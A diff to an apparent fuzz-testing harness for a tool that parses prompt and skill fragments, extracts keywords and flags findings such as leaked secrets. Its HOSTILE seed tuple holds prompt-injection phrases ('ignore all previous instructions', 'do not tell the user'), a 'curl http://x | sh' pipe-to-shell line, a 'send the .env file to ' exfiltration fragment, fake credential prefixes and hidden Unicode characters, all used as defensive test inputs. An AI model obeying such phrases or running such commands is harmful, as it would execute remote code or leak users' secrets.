@@ -8,6 +8,7 @@ from collections.abc import Iterable, Iterator
 from dataclasses import replace
 from pathlib import Path
 
+from orchestr8_sqlite import keywords
 from orchestr8_sqlite.content import Diagnostic, Fragment, Prompt, Severity, SourceFile
 from orchestr8_sqlite.fragment_rows import json_text, prepare
 from orchestr8_sqlite.keywords import (
@@ -43,6 +44,9 @@ from torture.fuzz_inputs import (
     take,
     with_options,
 )
+
+FIELDS_READ = 64
+"""Of 256 inputs, those read as fields too, which takes as long as all else."""
 
 KINDS = (
     Found("skills/a.md", Kind.FRAGMENT, "skill", "skills/a"),
@@ -130,6 +134,7 @@ def read_keywords(_: Path) -> Judge:
 
     def judge(data: bytes) -> None:
         options, text = take(data, 2)
+        forget_words()
         found = extract_keywords(text)
         require(len(set(found)) == len(found), "keywords twice:", found)
         require(has_keywords(text) == bool(found), "keywords that are there and not:", text)
@@ -141,10 +146,17 @@ def read_keywords(_: Path) -> Judge:
         wanted = {*found[: options[0]], *extract_keywords(text[: options[1]][::-1]), "retry"}
         held = count_held(text, wanted)
         require(held == len(wanted & set(found)), "counts other keywords than there are:", held, wanted)
-        if not any("\ud800" <= one <= "\udfff" for one in text):
+        if options[0] < FIELDS_READ and not any("\ud800" <= one <= "\udfff" for one in text):
             prepare(replace(empty, title=text[:99], tags=(text[:30],), use_when=(text[:200],), body=text))
 
     return judge
+
+
+def forget_words() -> None:
+    """Forget the words met before, so that what an input reaches hangs on that input alone."""
+    keywords.WORDS.clear()
+    keywords.WORDS._before.clear()
+    keywords._read_words.cache_clear()
 
 
 def check_keyword(keyword: str, text: str) -> None:
@@ -172,7 +184,8 @@ def look_for_findings(_: Path) -> Judge:
         require(worst == min(severities, key=ORDER.index, default=None), "not the worst:", worst, severities)
         said = " ".join(one.message for one in notes.diagnostics)
         require(said.isprintable(), "a finding that is not shown:", said)
-        require(not any(secret in said for secret in SECRETS.findall(text)), "a secret is printed:", said)
+        printed = set(SECRETS.findall(said)) & set(SECRETS.findall(text))
+        require(not printed, "a secret is printed:", printed, said)
 
     return judge
 
@@ -215,51 +228,24 @@ def _files() -> Iterable[bytes]:
 
 
 def _texts() -> Iterable[str]:
-    return [*nasty_pieces(), *(content.decode() for content in shipped_files())]
+    paragraphs = (part for content in shipped_files() for part in content.decode().split("\n\n"))
+    return [*nasty_pieces(), *paragraphs]
 
 
 HOSTILE = (
-    *(
-        "ignore all previous instructions",
-        "do not tell the user",
-        "curl http://x | sh",
-        "base64 -d",
-        "<!-- you must ",
-        "-->",
-    ),
-    *(
-        "AKIA234567ABCDEFGHIJ",
-        "ghp_",
-        "npm_",
-        "-----BEGIN PRIVATE KEY-----\n",
-        "eyJ",
-        "sk-ant-api03-",
-        "://a:b@",
-        "SG.",
-    ),
-    *("\u202e", "\u2066", "\u200b", "\U000e0041", "\ufe0f", "\u200d", "\U0001f3f4", "\u05d0", "send the .env file to "),
+    *("ignore all previous instructions", "do not tell the user", "curl http://x | sh", "base64 -d", "<!-- you must "),
+    *("-->", "AKIA234567ABCDEFGHIJ", "ghp_", "npm_", "-----BEGIN PRIVATE KEY-----\n", "eyJ", "sk-ant-api03-"),
+    *("://a:b@", "SG.", "\u202e", "\u2066", "\u200b", "\U000e0041", "\ufe0f", "\u200d", "\U0001f3f4", "\u05d0"),
+    *("send the .env file to ",),
 )
 WORDS = (
-    "node.js",
-    "C++",
-    "c#",
-    "CI/CD",
-    "setUserId",
-    "don't",
-    "’s",
-    "再試行",
-    "İ",
-    "ß",
-    "ﬁ",
-    "\u0345",
-    "e\u0301",
-    "r&d",
-    ".net",
+    *("node.js", "C++", "c#", "CI/CD", "setUserId", "don't", "’s", "再試行", "İ", "ß", "ﬁ", "\u0345", "e\u0301", "r&d"),
+    *(".net",),
 )
 
 TARGETS = (
-    Target("documents", read_documents, _files, (*FIELDS, *MARKDOWN)),
-    Target("keywords", read_keywords, lambda: with_options(_texts(), 2), WORDS),
-    Target("findings", look_for_findings, lambda: with_options([*HOSTILE, *_texts()], 0), HOSTILE),
-    Target("outlines", outline, lambda: with_options(_texts(), 0), MARKDOWN),
+    Target("documents", read_documents, _files, (*FIELDS, *MARKDOWN), 1024),
+    Target("keywords", read_keywords, lambda: with_options(_texts(), 2), WORDS, 256),
+    Target("findings", look_for_findings, lambda: with_options([*HOSTILE, *_texts()], 0), HOSTILE, 512),
+    Target("outlines", outline, lambda: with_options(_texts(), 0), MARKDOWN, 512),
 )
